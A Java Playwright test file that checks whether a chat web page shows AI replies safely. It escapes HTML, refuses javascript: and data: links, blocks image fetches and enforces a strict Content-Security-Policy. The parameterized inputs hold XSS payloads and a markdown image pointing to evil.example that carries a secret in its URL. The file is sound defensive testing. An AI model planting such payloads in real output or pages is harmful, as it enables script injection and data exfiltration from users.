package dev.parley.system.page;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static dev.parley.system.page.Visitor.ask;
import static dev.parley.system.page.Visitor.reply;
import static dev.parley.system.page.Visitor.wholeReply;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a model says may come from anywhere: it is shown, never run, and nothing is fetched. */
@ExtendWith(PageExtension.class)
class UnsafeAnswerTest {

    private static final ObjectMapper JSON = new ObjectMapper();

    private final Visitor visitor;

    UnsafeAnswerTest(Visitor visitor) {
        this.visitor = visitor;
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>window.caught = 1</script>",
                "words <img src=x onerror=\"window.caught = 1\"> words",
                "<svg><script>window.caught = 1</script></svg>",
                "<iframe srcdoc=\"<script>parent.caught = 1</script>\"></iframe>",
                "<a href=\"javascript:window.caught=1\">press</a>",
                "<style>body { display: none }</style>",
                "<form action=\"https://evil.example\"><button>Sign in</button></form>",
                "- item <b onclick=\"window.caught=1\">bold</b>"
            })
    void showsHtmlAsText(String answer) {
        Page page = visitor.visit();
        say(page, answer);

        assertThat(reply(page)).hasAttribute("aria-busy", "false");
        String shown = wholeReply(page);
        assertEquals(answer.replaceFirst("^- ", ""), shown.strip());
        assertNothingRan(page);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "[press](javascript:window.caught=1)",
                "[press](JaVaScRiPt:window.caught=1)",
                "[press](java&#115;cript:window.caught=1)",
                "[press](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuY2F1Z2h0PTE8L3NjcmlwdD4=)",
                "[press](/v1/conversations)",
                "<javascript:window.caught=1>",
                "[press][1]\n\n[1]: javascript:window.caught=1"
            })
    void makesNoLinkOfWhatIsNotOne(String answer) {
        Page page = visitor.visit();
        say(page, answer);

        wholeReply(page);
        assertThat(reply(page).locator(".body a")).hasCount(0);
        assertNothingRan(page);
    }

    @Test
    void showsTheWordsOfAnImageAndFetchesNone() {
        Page page = visitor.visit();
        say(page, "before ![a cat](https://evil.example/cat.png?secret=1) after");

        assertEquals("before a cat after", wholeReply(page));
        assertThat(page.locator("main img")).hasCount(0);
        assertNothingRan(page);
    }

    @Test
    void opensHarmlessLinksElsewhereAndTellsThemNothing() {
        Page page = visitor.visit();
        say(page, "see [the docs](https://example.org/docs) or <mailto:ada@example.org>");

        wholeReply(page);
        Locator link = reply(page).locator(".body a").first();
        assertThat(link).hasAttribute("href", "https://example.org/docs");
        assertThat(link).hasAttribute("target", "_blank");
        assertThat(link).hasAttribute("rel", "noopener noreferrer nofollow");
        assertThat(reply(page).locator(".body a").nth(1))
                .hasAttribute("href", "mailto:ada@example.org");
    }

    @Test
    void formatsMarkdown() {
        Page page = visitor.visit();
        say(
                page,
                "# Title\n\n1. one\n2. **two**\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```java\nint x = 1 < 2;\n```\n");

        wholeReply(page);
        Locator body = reply(page).locator(".body");
        assertThat(body.locator("h3")).hasText("Title");
        assertThat(body.locator("ol li strong")).hasText("two");
        assertThat(body.locator("td").first()).hasText("1");
        assertThat(body.locator("pre code")).hasText("int x = 1 < 2;");
    }

    @ParameterizedTest
    @ValueSource(strings = {"/", "/page/main.js", "/v1/conversations"})
    void forbidsEverythingThatThePageDoesNotNeed(String path) throws Exception {
        HttpResponse<String> answer;
        try (HttpClient http = HttpClient.newHttpClient()) {
            HttpRequest request = HttpRequest.newBuilder(URI.create(visitor.url() + path)).build();
            answer = http.send(request, BodyHandlers.ofString());
        }

        assertEquals(path.startsWith("/v1") ? 401 : 200, answer.statusCode());
        String policy = answer.headers().firstValue("Content-Security-Policy").orElseThrow();
        assertTrue(policy.startsWith("default-src 'none'; script-src 'self';"), policy);
        assertTrue(!policy.contains("unsafe"), policy);
        assertEquals(
                "nosniff", answer.headers().firstValue("X-Content-Type-Options").orElseThrow());
        assertEquals("no-referrer", answer.headers().firstValue("Referrer-Policy").orElseThrow());
    }

    private void say(Page page, String answer) {
        ObjectNode script = JSON.createObjectNode();
        script.putArray("steps").addObject().put("text", answer);
        visitor.agent("poet", script.toString());
        ask(page, "poet", "say something");
    }

    private static void assertNothingRan(Page page) {
        for (Locator link : reply(page).locator(".body *").all()) {
            link.dispatchEvent("click");
        }
        assertEquals(null, page.evaluate("() => window.caught ?? null"));
    }
}
